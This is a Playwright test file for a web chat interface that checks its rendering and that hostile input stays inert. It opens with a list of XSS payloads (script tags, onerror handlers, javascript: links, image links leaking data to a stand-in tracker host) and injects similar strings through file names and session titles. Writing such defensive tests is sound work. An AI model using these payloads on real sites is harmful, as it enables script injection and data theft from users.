"""What answers look like, and that nothing in them acts: behaviours 8 to 12 and 15 of the web chat."""

import json
import re
import urllib.request
from collections.abc import Callable

import pytest
from playwright.sync_api import Page, expect

from web.conftest import Chat, Server

pytestmark = pytest.mark.slow

HOSTILE = [
    "<script>window.pwned=1</script>",
    '<img src=x onerror="window.pwned=1">',
    '<svg/onload="window.pwned=1">',
    "[x](javascript:window.pwned=1)",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "<a href=' javascript:alert(1)'>x</a>",
    "<iframe srcdoc='<script>parent.document.title=1</script>'></iframe>",
    "<style>*{display:none}</style><base href='http://tracker.example/'>",
    "<form action='http://tracker.example/'><button>go</button></form>",
    "![seen](http://tracker.example/?q=secret)",
    "[![in](http://tracker.example/a.png)](http://tracker.example/)",
    "```html\n<script>alert(1)</script>\n```",
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    "[a]: javascript:alert(1)\n[a]",
    "<http://tracker.example/\"onmouseover='alert(1)'>",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <b onclick=alert(1)>c</b> | d |",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
]
HARMLESS = """() => {
  const inside = (one) => (one.shadowRoot ? all(one.shadowRoot) : [])
  const all = (root) => [...root.querySelectorAll('*')].flatMap((one) => [one, ...inside(one)])
  const silent = ['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'BASE', 'STYLE', 'LINK', 'MATH']
  const faults = []
  for (const one of all(document.body)) {
    if (silent.includes(one.tagName)) faults.push(one.outerHTML)
    if (one.tagName === 'FORM' && one.hasAttribute('action')) faults.push(one.outerHTML)
    if (one.tagName === 'IMG' && !/^(data|blob):/.test(one.getAttribute('src') ?? '')) faults.push(one.outerHTML)
    for (const {name, value} of one.attributes) {
      if (name.startsWith('on')) faults.push(one.outerHTML)
      const leads = ['href', 'src', 'action'].includes(name)
      if (leads && /^\\s*(javascript|vbscript|data:text)/i.test(value)) faults.push(one.outerHTML)
    }
    if (one.tagName === 'A' && one.target === '_blank' && !/noopener/.test(one.rel)) faults.push(one.outerHTML)
  }
  return [!!window.pwned, faults]
}"""


def harmless(page: Page) -> None:
    """Nothing on the page acts or asks anybody; what the fixture watches holds besides."""
    assert page.evaluate(HARMLESS) == [False, []]


@pytest.mark.requirement("B78")
def test_hostile_text_of_people_and_models_is_inert_live_and_from_history(chat: Chat) -> None:
    for text in HOSTILE:
        chat.ask(text)
    harmless(chat.page)
    expect(chat.sayings.first).to_contain_text("<script>")
    chat.page.reload()
    expect(chat.answers).to_have_count(len(HOSTILE))
    harmless(chat.page)


@pytest.mark.requirement("B78")
def test_hostile_tool_output_thoughts_titles_and_file_names_are_inert(chat: Chat) -> None:
    chat.ask("look here")
    chat.page.locator("details.tool > summary").click()
    expect(chat.page.locator("details.tool pre").last).to_contain_text("window.pwned=1")
    chat.ask("think <img src=x onerror=alert(1)>")
    name = "<img src=x onerror=alert(1)>.txt"
    chat.page.locator("input[type=file]").set_input_files({"name": name, "mimeType": "text/plain", "buffer": b"a"})
    chat.ask("see the file")
    title = json.dumps({"ore.title": "<img src=x onerror=alert(1)>"}).encode()
    request = urllib.request.Request(
        f"{chat.url}/sessions/{chat.session}/metadata", title, {"Content-Type": "application/json"}, method="PATCH"
    )
    urllib.request.urlopen(request).read()
    expect(chat.page.get_by_role("heading", level=1)).to_have_text("<img src=x onerror=alert(1)>")
    harmless(chat.page)
    chat.page.reload()
    expect(chat.sayings.last).to_contain_text(name)
    harmless(chat.page)


def test_the_page_is_served_under_a_policy_without_inline_script_or_style(server: Server) -> None:
    with urllib.request.urlopen(f"{server.url}/") as answer:
        policy = answer.headers["Content-Security-Policy"]
    directives = dict(part.strip().partition(" ")[::2] for part in policy.split(";"))
    assert "unsafe" not in policy
    assert (directives["script-src"], directives["style-src"]) == ("'self'", "'self'")


CODE = "```python\n" + "\n".join(f"value_{line} = 'text {line}'" for line in range(40)) + "\n```"


def test_code_has_its_language_colours_a_copy_button_and_folds_when_long(
    pages: Callable[..., Page], server: Server
) -> None:
    page = pages(permissions=["clipboard-read", "clipboard-write"])
    chat = Chat(page, server.url).open()
    code = chat.ask(CODE).locator(".code")
    expect(code.locator(".code-bar")).to_contain_text("python")
    expect(code.locator(".hljs-string").first).to_be_visible()
    expect(code).to_have_class("code folded")
    code.get_by_role("button", name="Show all 40 lines").click()
    expect(code).to_have_class("code")
    code.get_by_role("button", name="Wrap").click()
    expect(code).to_have_class("code wrapped")
    code.get_by_role("button", name="Copy").click()
    expect(code.get_by_role("button", name="Copied")).to_be_visible()
    assert page.evaluate("navigator.clipboard.readText()").endswith("value_39 = 'text 39'")


def test_code_that_is_still_being_written_is_shown_as_code(chat: Chat) -> None:
    answer = chat.ask("```js\nlet half = 1")
    expect(answer.locator(".code code")).to_have_text("let half = 1")


def test_wide_tables_scroll_inside_themselves_and_tasks_have_their_boxes(chat: Chat) -> None:
    wide = (
        "| "
        + " | ".join(f"column{n}withoutbreaks" for n in range(20))
        + " |\n|"
        + "---|" * 20
        + "\n"
        + "| x " * 20
        + "|"
    )
    answer = chat.ask(f"{wide}\n\n- [x] done\n- [ ] open")
    assert answer.locator(".table").evaluate("one => one.scrollWidth > one.clientWidth")
    assert chat.page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    expect(answer.get_by_text("☑ done")).to_be_visible()


def test_a_remote_picture_is_a_link_that_names_its_host(chat: Chat) -> None:
    link = chat.ask("![a cat](http://pictures.example/cat.png)").get_by_role("link")
    expect(link).to_have_text("a cat (pictures.example)")
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")


def test_a_tool_card_says_what_was_called_how_long_and_what_came(chat: Chat) -> None:
    answer = chat.ask("edit it")
    card = chat.page.locator("details.tool")
    expect(card.locator("summary")).to_contain_text("edit")
    expect(card.locator("summary")).to_contain_text("Done")
    card.locator("summary").click()
    expect(card.locator(".removed")).to_have_text("- x = 1\n")
    expect(card.locator(".added")).to_have_text("+ x = 2\n")
    expect(card).to_contain_text("changed 1 line")
    expect(answer).to_contain_text("All done.")


def test_a_long_result_is_folded_and_can_be_had_whole(chat: Chat) -> None:
    chat.ask("dump it")
    card = chat.page.locator("details.tool")
    card.locator("summary").click()
    result = card.locator(".part").filter(has_text="Result")
    expect(result.locator("pre")).to_contain_text('"row": 0')
    expect(result.locator("pre")).not_to_contain_text('"row": 199')
    with chat.page.expect_download() as download:
        result.get_by_role("button", name="Download").click()
    assert json.loads(download.value.path().read_text())[-1] == {"row": 199, "value": "x" * 20}
    result.get_by_role("button", name="Show all").click()
    expect(result.locator("pre")).to_contain_text('"row": 199')


def test_what_an_agent_does_inside_a_call_is_shown_inside_its_card(chat: Chat) -> None:
    chat.say("delegate it")
    card = chat.page.locator("details.tool")
    expect(card.locator(".nested")).to_contain_text("Slowly, word by word")
    chat.rests()
    expect(card.locator("summary")).to_contain_text("Done")
    expect(chat.page.locator("article.answer > .text", has_text="Slowly")).to_have_count(0)


def test_thoughts_are_folded_until_somebody_wants_them(chat: Chat) -> None:
    chat.ask("think first")
    thought = chat.page.locator("details.reasoning")
    expect(thought.locator("summary")).to_have_text(re.compile(r"Thought for (less than a second|\d+ s)"))
    expect(thought).not_to_contain_text("sides")
    thought.locator("summary").click()
    expect(thought.locator("strong")).to_have_text("both")
    expect(thought).to_contain_text("sides")


def test_an_answer_is_copied_as_markdown_or_as_text(pages: Callable[..., Page], server: Server) -> None:
    page = pages(permissions=["clipboard-read", "clipboard-write"])
    chat = Chat(page, server.url).open()
    answer = chat.ask("some **bold** words")
    answer.get_by_role("button", name="Copy", exact=True).click()
    expect(answer.get_by_role("button", name="Copied")).to_be_visible()
    assert page.evaluate("navigator.clipboard.readText()") == "some **bold** words"
    answer.get_by_role("button", name="Copy as text").click()
    page.wait_for_function("navigator.clipboard.readText().then((text) => text === 'some bold words')")
